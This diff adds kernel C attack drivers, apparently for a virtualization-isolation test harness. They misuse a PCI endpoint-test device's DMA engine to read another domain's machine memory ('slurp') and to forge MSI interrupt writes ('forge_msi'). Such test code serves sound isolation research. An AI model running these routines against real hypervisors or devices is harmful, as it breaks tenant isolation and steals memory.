@@ -1,0 +1,116 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Hostile drivers: kernel C in a domU's image that gives its own endpoint-test device addresses that are not its own.
+ * Nothing here leaves the simulation. A scenario starts them by name with `attack:`.
+ */
+#include <linux/delay.h>
+#include <linux/dma-mapping.h>
+#include <linux/io.h>
+#include <linux/kernel.h>
+#include <linux/pci.h>
+#include <linux/slab.h>
+
+#include "driver/env/emul.h"
+#include "driver/env/work.h"
+
+/* Registers of the endpoint test function, as drivers/misc/pci_endpoint_test.c has them. */
+enum {
+	COMMAND = 0x04, STATUS = 0x08, SRC_LOWER = 0x0c, SRC_UPPER = 0x10, DST_LOWER = 0x14, DST_UPPER = 0x18,
+	SIZE = 0x1c, IRQ_TYPE = 0x24, IRQ_NUMBER = 0x28, FLAGS = 0x2c,
+};
+#define COMMAND_COPY BIT(5)
+#define STATUS_COPY_SUCCESS BIT(4)
+#define STATUS_COPY_FAIL BIT(5)
+
+static struct pci_dev *find_endpoint(void)
+{
+	struct pci_dev *dev = NULL;
+
+	for_each_pci_dev(dev)
+		if (dev->class >> 16 == PCI_CLASS_OTHERS && pci_resource_len(dev, 0))
+			return dev;
+	return NULL;
+}
+
+/* Copies `size` bytes of machine memory from `from` to `to` with the device's own engine. */
+static noinline int copy(struct pci_dev *dev, u64 from, u64 to, u32 size)
+{
+	void __iomem *bar = pci_iomap(dev, 0, 0);
+	u32 status = 0;
+	int tries;
+
+	if (!bar)
+		return -ENOMEM;
+	writel(0, bar + STATUS);
+	writel(lower_32_bits(from), bar + SRC_LOWER);
+	writel(upper_32_bits(from), bar + SRC_UPPER);
+	writel(lower_32_bits(to), bar + DST_LOWER);
+	writel(upper_32_bits(to), bar + DST_UPPER);
+	writel(size, bar + SIZE);
+	writel(0, bar + FLAGS);
+	writel(COMMAND_COPY, bar + COMMAND);
+	for (tries = 0; tries < 1000; tries++) {
+		status = readl(bar + STATUS);
+		if (status & (STATUS_COPY_SUCCESS | STATUS_COPY_FAIL))
+			break;
+		usleep_range(10, 20);
+	}
+	iounmap(bar);
+	if (status & STATUS_COPY_SUCCESS)
+		return 0;
+	return status & STATUS_COPY_FAIL ? -EIO : -ETIMEDOUT;
+}
+
+/* slurp ADDRESS BYTES: reads a victim's machine memory into a buffer of this domain. */
+static int slurp(int argc, char **argv)
+{
+	struct pci_dev *dev = find_endpoint();
+	unsigned long long from;
+	unsigned long bytes;
+	dma_addr_t to;
+	void *loot;
+	int result;
+
+	if (argc < 3 || kstrtoull(argv[1], 0, &from) || kstrtoul(argv[2], 0, &bytes))
+		return -EINVAL;
+	if (!dev)
+		return -ENODEV;
+	loot = kzalloc(bytes, GFP_KERNEL);
+	if (!loot)
+		return -ENOMEM;
+	to = dma_map_single(&dev->dev, loot, bytes, DMA_FROM_DEVICE);
+	result = dma_mapping_error(&dev->dev, to) ? -ENOMEM : copy(dev, from, to, bytes);
+	if (!dma_mapping_error(&dev->dev, to))
+		dma_unmap_single(&dev->dev, to, bytes, DMA_FROM_DEVICE);
+	pci_dev_put(dev);
+	/* The loot stays: it is what the attacker came for. */
+	return result;
+}
+
+/* forge_msi ADDRESS DATA: has the device write an interrupt message that is not its own. */
+static int forge_msi(int argc, char **argv)
+{
+	struct pci_dev *dev = find_endpoint();
+	unsigned long long to, data;
+	dma_addr_t from;
+	u32 *message;
+	int result;
+
+	if (argc < 3 || kstrtoull(argv[1], 0, &to) || kstrtoull(argv[2], 0, &data))
+		return -EINVAL;
+	if (!dev)
+		return -ENODEV;
+	message = kzalloc(PAGE_SIZE, GFP_KERNEL);
+	if (!message)
+		return -ENOMEM;
+	*message = data;
+	from = dma_map_single(&dev->dev, message, sizeof(*message), DMA_TO_DEVICE);
+	result = dma_mapping_error(&dev->dev, from) ? -ENOMEM : copy(dev, from, to, sizeof(*message));
+	if (!dma_mapping_error(&dev->dev, from))
+		dma_unmap_single(&dev->dev, from, sizeof(*message), DMA_TO_DEVICE);
+	pci_dev_put(dev);
+	return result;
+}
+
+EMUL_REGISTER("slurp", EMUL_CALLABLE, slurp);
+EMUL_REGISTER("forge_msi", EMUL_CALLABLE, forge_msi);
